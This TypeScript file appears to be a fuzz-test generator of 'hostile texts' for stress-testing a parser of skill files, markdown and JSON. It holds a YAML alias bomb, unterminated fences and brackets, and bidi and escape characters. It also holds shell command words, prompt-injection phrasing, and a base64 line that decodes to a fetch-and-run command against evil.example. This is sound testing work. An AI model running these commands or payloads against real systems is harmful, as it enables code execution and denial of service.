import { draw } from "../../../state/draw.ts";

/** Writes a hostile text of about so many characters. `chance` gives one number in 0..1 after the other. */
type Writer = (size: number, chance: () => number) => string;

const fill = (piece: string, size: number) => piece.repeat(Math.max(1, Math.ceil(size / piece.length))).slice(0, size);

const pick = <Item>(items: readonly Item[], chance: number): Item => items[Math.floor(chance * items.length)] as Item;

/** One piece again and again, what stands before it and after it. */
const around =
  (before: string, piece: string, after = ""): Writer =>
  (size) =>
    before + fill(piece, size - before.length - after.length) + after;

const frontmatter = (yaml: string) => `---\nname: house\ndescription: Sorts messages.\n${yaml}\n---\n\n# House\n`;

/** Each doubles the one before it nine times over: written out, a billion values. */
const aliases = (count: number) =>
  Array.from(
    { length: count },
    (_, at) =>
      `a${at}: &a${at} [${Array(9)
        .fill(at === 0 ? "x" : `*a${at - 1}`)
        .join(",")}]`,
  ).join("\n");

const oddCharacters = [
  ..."\0\u0007\u001b\u009b\u00ad\u0301\u061c\u200b\u200d\u202e\u2066\u2069\u2028\ufeff\ufffe\ud800\udc00\r\n\t",
];

const lineEnds: Writer = (size, chance) =>
  Array.from({ length: Math.ceil(size / 4) }, () => `ab${pick(["\n", "\r", "\r\n", "\n\r"], chance())}`)
    .join("")
    .slice(0, size);

/** Pieces of all that readers look for, in any order. */
const tokens = (
  '``` ```json\n ~~~ { } [ ] : , " \\ \\u0041 <think> </think> <data> </data> --- - # ## ###### <!-- --> ](x) ]( ` `` | > * 1. \n \r\n \t \0 ' +
  "\u001b[2J \u202e \u0301 e 0 -1.5e9 true null & &amp; *a &a !!js << - : https://a:b@c // /skills/ SKILL.md When Answer Otherwise"
).split(" ");

const soup: Writer = (size, chance) => {
  const parts: string[] = [];
  for (let length = 0; length < size;) {
    const piece = pick(tokens, chance()).repeat(chance() < 0.9 ? 1 : 40);
    parts.push(piece, " ");
    length += piece.length + 1;
  }
  return parts.join("").slice(0, size);
};

/** Hostile texts by what they attack. Each grows with its size in the one thing that it is about. */
const hostileTexts: Readonly<Record<string, Writer>> = {
  "fences that open": around("", "```json\n"),
  "fences that open with spaces": around("", "   ```json  \n"),
  "fences around nothing": around("", "```json\n\n```\n"),
  "one long fence": around("```", "`", "\n"),
  "thoughts that open": around("", "<think>"),
  "thoughts within thoughts": (size) => fill("<think>", size / 2) + fill("</think>", size / 2),
  "a thought without an end": around("<think>", "a "),
  "opened brackets": around("", "["),
  "opened objects": around("", '{"a":'),
  "nested lists": (size) => "[".repeat(size / 2) + "]".repeat(size / 2),
  "nested edits": (size) => `{"reason":"","edits":${"[".repeat(size / 2)}${"]".repeat(size / 2)}}`,
  "a text without an end": around('{"reason":"', "a"),
  "escapes without an end": around('"', '\\"'),
  "quotation marks": around("", '"'),
  "many values": around("[", "0,", "0]"),
  "many keys": (size) => `{${Array.from({ length: size / 12 }, (_, at) => `"k${at}":{}`).join(",")}}`,
  "a long number": around("", "1"),
  "a number of zeros": around("1.", "0", "x"),
  "one letter": around("", "a"),
  "one letter, one other": around("", "a", "b"),
  "capital letters": around("", "A"),
  ideographs: (size, chance) =>
    Array.from({ length: size }, () => String.fromCharCode(0x4e00 + Math.floor(chance() * 20_000))).join(""),
  "spaces before a letter": around("", " ", "x"),
  "tabs in a heading": around("# ", "\t ", "x"),
  "numbers in a heading": around("## a", " #", "x"),
  "empty lines": around("", "\n", "x"),
  "carriage returns": around("", "\r", "x"),
  "line ends of all kinds": lineEnds,
  "many headings": around("", "# a\n"),
  "many bullets": around("## Rules\n\n", '- When the message mentions "a", answer `b`.\n'),
  "bullets of nothing": around("## Rules\n\n", "- \n"),
  "bullets with one id": around("## Rules\n\n", "- Otherwise, answer `a`. <!-- r1 -->\n"),
  "one bullet": around("## Rules\n\n- When the message mentions ", '"a" or '),
  "a bullet in quotation marks": around('## Rules\n\n- Answer "', '\\"'),
  "a bullet of brackets": around("## Rules\n\n- When /", "(", "/"),
  "comments that open": around("## Rules\n\n- a", " <!--"),
  "links that open": around("", "]("),
  "links with an angle": around("", "](<"),
  "code that opens": around("", "` "),
  "frontmatter without an end": around("---\n", "a: b\n"),
  "frontmatter that ends again and again": around("---\n", "---x\n"),
  "aliases of aliases": (size) => frontmatter(aliases(Math.min(4_000, size / 40))),
  "nested YAML": (size) => frontmatter(`a: ${"[".repeat(Math.min(60_000, size))}`),
  "indented YAML": (size) =>
    frontmatter(Array.from({ length: Math.min(300, Math.sqrt(size)) }, (_, at) => `${" ".repeat(at)}a:`).join("\n")),
  "many keys of YAML": (size) => frontmatter(fill("a: b\n", Math.min(60_000, size))),
  "tags of YAML": (size) => frontmatter(`a: ${fill("!!js/function ", Math.min(60_000, size))}`),
  "a key of YAML": (size) => frontmatter(`a:${fill(" \t", Math.min(60_000, size))}\u2028`),
  "a description of signs": (size) => frontmatter(`description: ${fill("<", Math.min(60_000, size))}`),
  "half characters": around("", "\ud83d"),
  "other halves": around("", "\ude00\ud83d"),
  NUL: around("", "\0"),
  "combining marks": around("e", "\u0301"),
  "marks of direction": around("", "\u202e\u2066a"),
  "characters of no width": around("", "\u200b\u200d\ufe0f"),
  "escape sequences": around("", "\u001b[2J\u001b]0;x\u0007\u001b[31m"),
  "tags and variation": around("", "\u{e0041}\u{e0100}"),
  "families of emoji": around("", "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}"),
  "ligatures that grow": around("", "\ufdfa"),
  "logins of addresses": around("", "https://a:"),
  addresses: around("", "a://"),
  slashes: around("", "/"),
  "slashes and line ends": around(" ", "/\n"),
  "paths of skills": around("", "/Ld", "/SKILL.md"),
  "paths of many skills": around("", "/a/SKILL.md "),
  hyphens: around("a", "-", "-b"),
  "dots and letters": around("", "a."),
  "events that are none": around("", '{"type":"item.completed"\n'),
  "events with a fault": around("", '{"a":}\n'),
  "words of one letter": around("", "a "),
  "the same line": around("", "the same line as before\n"),
  "lines that all differ": (size) =>
    Array.from({ length: size / 8 }, (_, at) => at.toString(36).padStart(7, "0")).join("\n"),
  "bytes of a secret": around("", "s3cr"),
  "commands of a shell": around("", "curl wget sudo rm -rf env | find / "),
  "words of an instruction": around("", "never without ignore all the send to "),
  "instructions in base64": around("", "Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g= "),
  "addresses of the web": (size) => Array.from({ length: size / 16 }, (_, at) => `https://a${at}.b`).join(" "),
  "odd characters": (size, chance) => Array.from({ length: size }, () => pick(oddCharacters, chance())).join(""),
  "a soup of all": soup,
};

export const textKinds = Object.keys(hostileTexts);

/** A hostile text of a kind, of about `size` characters; the same for the same seed. */
export function writeHostile(kind: string, size: number, seed: number): string {
  const write = hostileTexts[kind];
  if (write === undefined) throw new Error(`There is no kind of hostile text "${kind}".`);
  return write(Math.ceil(size), chanceFrom(seed, kind));
}

/** Numbers in 0..1, millions a second (mulberry32): `draw` hashes for each. */
function chanceFrom(seed: number, kind: string): () => number {
  let state = Math.floor(draw(seed, 0, kind, 0) * 2 ** 32);
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}
